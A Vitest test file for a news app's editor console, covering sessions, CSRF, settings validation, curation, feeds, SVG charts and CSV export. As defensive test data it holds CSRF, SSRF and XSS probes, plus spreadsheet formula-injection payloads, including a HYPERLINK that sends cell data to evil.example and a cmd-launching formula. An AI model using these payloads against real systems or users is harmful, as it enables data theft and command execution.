import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { createWebServer } from '../../src/web/server.js';
import { EDITOR_COOKIE, SUBSCRIBER_COOKIE, sessionToken } from '../../src/web/session.js';
import { settingsDiff, settingsFromForm, SETTING_FIELDS } from '../../src/web/editor/routes.js';
import { DEFAULT_SETTINGS } from '../../src/personalize/settings.js';
import { addEditor, editorLoginLink } from '../../src/cli/commands/editors.js';
import { barChart, lineChart } from '../../src/web/editor/charts.js';
import { csvCell, toCsv } from '../../src/web/editor/csv.js';
import { Client, makeWorld, type World } from './world.js';

let w: World;
let app: FastifyInstance;
let editor: Client;

const formOf = (s = DEFAULT_SETTINGS): Record<string, string> =>
  Object.fromEntries(SETTING_FIELDS.map((f) => [f.name, String(f.path.reduce<any>((o, k) => o[k], s))]));

beforeAll(async () => {
  w = await makeWorld();
  app = await createWebServer(w.ctx, { mailer: w.mailer });
  const { editor: account } = await addEditor(w.ctx, 'Redac@Exemple.fr');
  editor = new Client(app);
  // Sign in through the link `kiosque editors add` prints.
  const path = new URL(await editorLoginLink(w.ctx, account)).pathname;
  expect((await editor.get(path)).statusCode).toBe(200);
  const r = await editor.post('/editor/login/confirm', { token: decodeURIComponent(path.split('/').pop()!) });
  expect(r.statusCode).toBe(303);
  expect(editor.cookies.has(EDITOR_COOKIE)).toBe(true);
}, 60_000);
afterAll(async () => {
  await app?.close();
  await w?.cleanup();
});

describe("editors' console", () => {
  it('WEB-10: no session → sign-in, a subscriber session → 403, roles never mix', async () => {
    const anon = new Client(app);
    expect((await anon.get('/editor/settings')).headers.location).toBe('/editor/login');
    const sub = new Client(app);
    sub.cookies.set(SUBSCRIBER_COOKIE, sessionToken({ secret: w.ctx.config.secret, secure: false, now: () => new Date() }, 'subscriber', w.subscribers[0]!));
    expect((await sub.get('/editor/settings')).statusCode).toBe(403);
    expect((await sub.get('/editor')).statusCode).toBe(403);
    // A subscriber token put in the editor cookie is not an editor session.
    const forged = new Client(app);
    forged.cookies.set(EDITOR_COOKIE, sub.cookies.get(SUBSCRIBER_COOKIE)!);
    expect((await forged.get('/editor')).headers.location).toBe('/editor/login');
    await sub.get('/edition');
    expect((await sub.post('/editor/settings', formOf())).statusCode).toBe(403);
  });

  it('WEB-10: cross-site posts and posts without a CSRF token are refused', async () => {
    await editor.get('/editor/settings');
    const cross = await editor.post('/editor/settings', formOf(), { headers: { origin: 'https://evil.example' } });
    expect(cross.statusCode).toBe(403);
    const noToken = await editor.post('/editor/settings', formOf(), { csrf: false });
    expect(noToken.statusCode).toBe(403);
    const wrongToken = await editor.post('/editor/settings', { ...formOf(), _csrf: 'x'.repeat(40) }, { csrf: false });
    expect(wrongToken.statusCode).toBe(403);
    expect(await w.ctx.store.listSettingsVersions()).toEqual([]);
  });

  it('previews a diversity weight on real subscribers, saves a version the next build uses, restores', async () => {
    const page = await editor.get('/editor/settings');
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('name="mmrLambda"');
    const form = { ...formOf(), mmrLambda: '0.2', explorationShare: '0.45', calibrationStrength: '1' };
    const preview = await editor.post('/editor/settings/preview', form);
    expect(preview.statusCode).toBe(200);
    expect(preview.body).toMatch(/Preview on 3 subscribers/);
    expect(preview.body).toContain('mmrLambda: 0.9 → 0.2');
    expect(preview.body).toMatch(/<strong class="changed">\d+<\/strong> editions change/);
    expect(await w.ctx.store.listSettingsVersions()).toEqual([]); // a preview saves nothing

    const saved = await editor.post('/editor/settings', { ...form, note: 'more variety' });
    expect(saved.statusCode).toBe(303);
    const v1 = (await w.ctx.store.getSettings<typeof DEFAULT_SETTINGS>())!;
    expect(v1).toMatchObject({ version: 1, author: 'redac@exemple.fr', note: 'more variety' });
    expect(v1.settings.mmrLambda).toBe(0.2);
    const audit = await w.ctx.store.listAudit();
    expect(audit.find((a) => a.action === 'settings.save')).toMatchObject({ actor: 'redac@exemple.fr', detail: { version: 1, changes: expect.arrayContaining(['mmrLambda: 0.9 → 0.2']) } });

    await w.build(['sub-alice']);
    const ed = (await w.ctx.store.listEditions({ subscriberId: 'sub-alice', limit: 1 }))[0]!;
    expect(ed.settingsVersion).toBe(1);

    const versions = await editor.get('/editor/versions');
    expect(versions.body).toContain('more variety');
    const restore = await editor.post('/editor/versions/1/restore');
    expect(restore.statusCode).toBe(303);
    expect((await w.ctx.store.getSettings())!.version).toBe(2);
    expect((await editor.post('/editor/versions/99/restore')).statusCode).toBe(404);
    expect((await editor.post('/editor/versions/abc/restore')).statusCode).toBe(400);
  });

  it('STO-13: weights out of bounds, infinite or not numbers are refused and nothing is saved', async () => {
    await editor.get('/editor/settings');
    const count = (await w.ctx.store.listSettingsVersions()).length;
    const zeros = Object.fromEntries(SETTING_FIELDS.filter((f) => f.name.startsWith('w_')).map((f) => [f.name, '0']));
    for (const bad of [{ w_content: '1e309' }, { w_content: '-1' }, { w_content: 'NaN' }, zeros, { mmrLambda: '2' }]) {
      const r = await editor.post('/editor/settings', { ...formOf(), ...bad });
      expect(r.statusCode, JSON.stringify(bad)).toBe(400);
    }
    const extra = await editor.post('/editor/settings', { ...formOf(), 'weights.content': '5' });
    expect(extra.statusCode).toBe(400);
    expect((await w.ctx.store.listSettingsVersions()).length).toBe(count);
    expect(settingsFromForm(DEFAULT_SETTINGS, { ...formOf(), w_content: '1e-320' })).toMatchObject({ ok: true });
    expect(settingsDiff({ a: 1, b: { c: 2 } }, { a: 1, b: { c: 3 } })).toEqual(['b.c: 2 → 3']);
  });

  it('the form offers every numeric setting editors tune, with the schema bounds (no browser clamping)', () => {
    const names = SETTING_FIELDS.map((f) => f.path.join('.'));
    for (const p of ['calibration.seatLambda', 'calibration.historyShare', 'bubbleGuard.floorBits', 'bubbleGuard.editions', 'bubbleGuard.explorationBoost', 'bubbleGuard.baselineBoost', 'bubbleGuard.holdBits', 'bubbleGuard.holdSlots', 'bubbleGuard.holdRampClicks', 'bubbleGuard.holdLambda', 'bubbleGuard.holdInterestPower', 'explorationShare', 'mmrLambda']) {
      expect(names).toContain(p);
    }
    for (const f of SETTING_FIELDS) {
      expect(settingsFromForm(DEFAULT_SETTINGS, { ...formOf(), [f.name]: String(f.max) }), `${f.name} at max`).toMatchObject({ ok: true });
      expect(settingsFromForm(DEFAULT_SETTINGS, { ...formOf(), [f.name]: String(f.max + f.step) }), `${f.name} above max`).toMatchObject({ ok: false });
      expect(settingsFromForm(DEFAULT_SETTINGS, { ...formOf(), [f.name]: String(f.min) }), `${f.name} at min`).toMatchObject({ ok: true });
    }
  });

  it('curation: pins, blocked sources and topics, sensitive topics make new versions', async () => {
    await editor.get('/editor/curation');
    const r = await editor.post('/editor/curation', {
      pinnedArticles: 'art-3\nart-4',
      blockedSources: [w.feeds[3]!.id],
      blockedTopics: ['culture'],
      sensitiveTopics: ['sante', 'religion'],
      note: 'curation test',
    });
    expect(r.statusCode).toBe(303);
    const s = (await w.ctx.store.getSettings<typeof DEFAULT_SETTINGS>())!.settings;
    expect(s.pinned.articleIds).toEqual(['art-3', 'art-4']);
    expect(s.blocked).toEqual({ sources: [w.feeds[3]!.id], topics: ['culture'] });
    expect(s.sensitiveTopics).toEqual(['sante', 'religion']);
    const page = await editor.get('/editor/curation');
    expect(page.body).toContain('art-3');
    await editor.get('/editor/articles');
    expect((await editor.post('/editor/articles/art-7/pin', { pin: 'on' })).statusCode).toBe(303);
    expect((await w.ctx.store.getSettings<typeof DEFAULT_SETTINGS>())!.settings.pinned.articleIds).toContain('art-7');
  });

  it('corrects an article topic (stored as topicOverride, trains the tagger)', async () => {
    await editor.get('/editor/articles');
    const r = await editor.post('/editor/articles/art-0/topic', { topic: 'economie' });
    expect(r.statusCode).toBe(303);
    expect((await w.ctx.store.getArticle('art-0'))!.tags!.topicOverride).toBe('economie');
    expect((await editor.post('/editor/articles/art-0/topic', { topic: 'nope' })).statusCode).toBe(400);
    expect((await w.ctx.store.listAudit()).some((a) => a.action === 'article.topic')).toBe(true);
  });

  it('edits the taxonomy (validated) ', async () => {
    const page = await editor.get('/editor/taxonomy');
    const json = /<textarea name="taxonomy"[^>]*>([\s\S]*?)<\/textarea>/.exec(page.body)![1]!.replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>');
    const tax = JSON.parse(json);
    expect((await editor.post('/editor/taxonomy', { taxonomy: '{not json' })).statusCode).toBe(400);
    const ok = await editor.post('/editor/taxonomy', { taxonomy: JSON.stringify(tax) });
    expect(ok.statusCode).toBe(303);
    expect(await w.ctx.store.getKv('tag:taxonomy')).not.toBeNull();
  });

  it('feeds: health list, add, import and export OPML, disable', async () => {
    const page = await editor.get('/editor/feeds');
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('Le Quotidien');
    expect((await editor.post('/editor/feeds', { url: 'https://nouveau.test/rss', section: 'Sciences', title: 'Nouveau', lang: 'fr', country: 'fr' })).statusCode).toBe(303);
    expect(await w.ctx.store.getFeedByUrl('https://nouveau.test/rss')).toMatchObject({ title: 'Nouveau', country: 'FR' });
    expect((await editor.post('/editor/feeds', { url: 'http://127.0.0.1/admin', section: 'x' })).statusCode).toBe(400);
    expect((await editor.post('/editor/feeds', { url: 'javascript:alert(1)', section: 'x' })).statusCode).toBe(400);
    const opml = '<?xml version="1.0"?><opml version="2.0"><body><outline text="Monde"><outline type="rss" text="Imp" xmlUrl="https://importe.test/feed"/></outline></body></opml>';
    expect((await editor.post('/editor/feeds/import', { opml })).statusCode).toBe(303);
    expect(await w.ctx.store.getFeedByUrl('https://importe.test/feed')).toMatchObject({ section: 'Monde' });
    const exported = await editor.get('/editor/feeds.opml');
    expect(exported.headers['content-type']).toMatch(/opml/);
    expect(exported.body).toContain('https://importe.test/feed');
    const id = w.feeds[2]!.id;
    expect((await editor.post(`/editor/feeds/${id}/status`, { status: 'disabled' })).statusCode).toBe(303);
    expect((await w.ctx.store.getFeed(id))!.status).toBe('disabled');
  });

  it('dashboard: server-rendered SVG charts, no script', async () => {
    const r = await editor.get('/editor');
    expect(r.statusCode).toBe(200);
    expect((r.body.match(/<svg /g) ?? []).length).toBeGreaterThanOrEqual(5);
    expect(r.body).toContain('Filter-bubble watch');
    expect(r.body).not.toMatch(/<script(?! src="\/static\/)/);
    const svg = barChart([{ label: '<script>alert(1)</script>', value: 1 }], { title: '"><x' });
    expect(svg).not.toContain('<script>');
    expect(lineChart(['a', 'b'], [{ name: 's', values: [1, Number.NaN] }], { title: 't' })).toContain('<svg');
  });

  it('STO-12: CSV reports neutralise formulas, keep numbers', async () => {
    for (const bad of ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\0=1']) {
      const cell = csvCell(bad);
      expect(cell.replace(/^"/, '').startsWith("'"), JSON.stringify(bad)).toBe(true);
    }
    expect(csvCell('"=1+1"')).toBe('"""=1+1"""');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('Élections, résultats')).toBe('"Élections, résultats"');
    expect(toCsv(['=h'], [[1]])).toBe("\"'=h\"\r\n1\r\n");
    await w.ctx.store.upsertArticles([{ ...(await w.ctx.store.getArticle('art-3'))!, id: 'art-evil', guidHash: 'evil', title: '=HYPERLINK("https://evil.example")' }]);
    const r = await editor.get('/editor/reports/articles.csv');
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toMatch(/text\/csv/);
    expect(r.body).toContain(`"'=HYPERLINK(""https://evil.example"")"`);
    expect(r.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('sign-in by mail for known editors only, same answer otherwise; removed editors lose their session', async () => {
    const c = new Client(app);
    await c.get('/editor/login');
    const before = w.mails.length;
    const a = await c.post('/editor/login', { email: 'redac@exemple.fr' });
    const b = await c.post('/editor/login', { email: 'intrus@exemple.fr' });
    expect(a.body.replace(/value="[^"]+"/g, '')).toBe(b.body.replace(/value="[^"]+"/g, ''));
    expect(w.mails.length - before).toBe(1);
    // Subscribers cannot use the editors' sign-in.
    await c.post('/editor/login', { email: 'sub-alice@exemple.fr' });
    expect(w.mails.length - before).toBe(1);
    const account = (await w.ctx.store.getEditorByEmail('redac@exemple.fr'))!;
    await w.ctx.store.deleteEditor(account.id);
    expect((await editor.get('/editor')).headers.location).toBe('/editor/login');
  });
});
